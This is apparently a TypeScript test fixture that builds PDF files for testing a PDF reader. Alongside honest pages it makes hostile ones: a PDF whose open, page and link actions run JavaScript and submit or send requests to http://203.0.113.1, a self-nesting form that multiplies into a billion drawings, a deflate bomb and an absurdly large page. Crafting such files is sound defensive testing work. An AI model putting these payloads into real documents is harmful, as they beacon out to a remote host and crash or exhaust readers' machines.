/** PDFs for tests, object by object: honest ones, and some that are made to harm. */
import { deflateSync } from "node:zlib";

export type PdfObject = string | { readonly stream: Buffer | string; readonly entries?: string };

/** The first object is the catalogue. With a cross-reference table, as a program would write it. */
export function pdf(objects: readonly PdfObject[]): Buffer {
  const parts: Buffer[] = [Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1")];
  const offsets: number[] = [];
  const length = (): number => parts.reduce((sum, part) => sum + part.length, 0);
  objects.forEach((object, at) => {
    offsets.push(length());
    parts.push(Buffer.from(`${at + 1} 0 obj\n`), body(object), Buffer.from("\nendobj\n"));
  });
  const table = length();
  const rows = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  parts.push(Buffer.from(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${table}\n%%EOF\n`));
  return Buffer.concat(parts);
}

function body(object: PdfObject): Buffer {
  if (typeof object === "string") return Buffer.from(object, "latin1");
  const stream = Buffer.from(object.stream as string, "latin1");
  return Buffer.concat([Buffer.from(`<<${object.entries ?? ""}/Length ${stream.length}>>stream\n`), stream, Buffer.from("\nendstream")]);
}

interface Extra {
  /** In the catalogue. */
  readonly catalogue?: string;
  /** In each page. */
  readonly page?: string;
  readonly box?: string;
  /** From object 4 on, before the pages. */
  readonly objects?: readonly PdfObject[];
}

/** A page for each content, in Helvetica, which readers have to have. */
export function pages(contents: readonly (string | Buffer)[], { catalogue = "", page = "", box = "0 0 595 842", objects = [] }: Extra = {}): Buffer {
  const first = 4 + objects.length;
  const kids = contents.map((_, at) => `${first + 2 * at} 0 R`).join(" ");
  return pdf([
    `<</Type/Catalog/Pages 2 0 R${catalogue}>>`,
    `<</Type/Pages/Kids[${kids}]/Count ${contents.length}>>`,
    "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    ...objects,
    ...contents.flatMap((content, at): PdfObject[] => [
      `<</Type/Page/Parent 2 0 R/MediaBox[${box}]/Contents ${first + 2 * at + 1} 0 R/Resources<</Font<</F 3 0 R>>/XObject<</X 4 0 R>>>>${page}>>`,
      typeof content === "string" ? { stream: content } : { stream: content, entries: "/Filter/FlateDecode" },
    ]),
  ]);
}

export const line = (text: string): string => `BT /F 36 Tf 72 700 Td (${text}) Tj ET`;

/** Runs a script when it is opened, when its page is shown and when its link is pressed. */
export const withScripts = (): Buffer =>
  pages([line("Harmless to look at")], {
    catalogue: "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://203.0.113.1/'\\))>>/AA<</WP<</S/JavaScript/JS(app.alert\\(2\\))>>>>",
    page: "/AA<</O<</S/URI/URI(http://203.0.113.1/opened)>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(http://203.0.113.1/pressed)>>>><</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 595 842]/A<</S/JavaScript/JS(document.title='owned')>>>>]",
  });

/** Forms that draw forms: 30 times 2 makes a thousand million drawings. */
export function endless(): Buffer {
  const forms = Array.from({ length: 30 }, (_, at): PdfObject => {
    const form = `/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</X ${at + 5} 0 R>>>>`;
    return at === 29 ? { entries: "/Type/XObject/Subtype/Form/BBox[0 0 595 842]", stream: "0 0 595 842 re f" } : { entries: form, stream: "/X Do /X Do" };
  });
  return pages(["/X Do"], { objects: forms });
}

/** A kilobyte of it is a megabyte of drawing. */
export const bomb = (): Buffer => pages([deflateSync(Buffer.from("0 0 m 595 842 l S\n".repeat(6_000_000)))]);

/** A page as large as a country. */
export const vast = (): Buffer => pages([line("Vast")], { box: "0 0 1e9 1e9" });
